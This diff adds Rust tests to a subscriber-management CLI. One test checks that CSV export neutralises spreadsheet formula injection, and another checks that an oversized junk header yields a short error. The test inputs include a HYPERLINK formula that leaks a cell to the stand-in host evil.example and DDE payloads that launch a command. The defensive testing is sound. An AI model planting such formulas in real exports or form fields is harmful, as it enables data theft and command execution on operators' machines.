@@ -170,3 +170,79 @@ async fn csv_import_reports_bad_rows_and_never_reactivates() {
     let out = env.cli(&["subscribers", "import", "missing.csv"]);
     assert_eq!(out.code, 2);
 }
+
+/// Names typed on the public form end up in the operator's spreadsheet: every cell a
+/// spreadsheet would run as a formula is neutralised, read back through the `csv` crate.
+#[tokio::test]
+async fn export_neutralises_formula_cells() {
+    let env = TestEnv::new().await;
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "\t=1+1",
+        "Ada = fine",
+    ];
+    for (i, name) in names.iter().enumerate() {
+        env.cli(&[
+            "subscribers",
+            "add",
+            &format!("f{i}@example.org"),
+            &format!("--name={name}"),
+        ])
+        .ok();
+    }
+    env.cli(&["subscribers", "add", "--", "-dash@example.org"])
+        .ok();
+    let out = env.cli(&["subscribers", "export"]);
+    let mut reader = csv::Reader::from_reader(out.ok().as_bytes());
+    let mut exported = Vec::new();
+    for record in reader.records() {
+        let record = record.unwrap();
+        for cell in record.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a formula cell: {cell:?}"
+            );
+        }
+        exported.push((record[0].to_string(), record[1].to_string()));
+    }
+    assert_eq!(exported.len(), names.len() + 1);
+    for (i, name) in names.iter().enumerate() {
+        let (email, cell) = &exported[i];
+        assert_eq!(email, &format!("f{i}@example.org"));
+        let expected = if name.starts_with("Ada") {
+            name.to_string()
+        } else {
+            format!("'{}", name.trim())
+        };
+        assert_eq!(cell, &expected, "the text is kept, only neutralised");
+    }
+    assert_eq!(exported[names.len()].0, "'-dash@example.org");
+}
+
+/// A junk header line is named, not echoed whole.
+#[tokio::test]
+async fn a_junk_csv_header_is_cut_short_in_the_error() {
+    let env = TestEnv::new().await;
+    let junk = "x".repeat(1_000_000);
+    let path = env.write("junk.csv", &format!("{junk}\nada@example.org\n"));
+    let out = env.cli(&["subscribers", "import", path.to_str().unwrap()]);
+    assert_eq!(out.code, 2);
+    assert!(
+        out.stderr.contains("needs an `email` column"),
+        "{}",
+        out.stderr
+    );
+    assert!(out.stderr.contains("bytes in all"), "{}", out.stderr);
+    assert!(
+        out.stderr.len() < 2_000,
+        "{} bytes of error",
+        out.stderr.len()
+    );
+    assert_eq!(
+        env.store().await.count_rows("subscribers").await.unwrap(),
+        0
+    );
+}
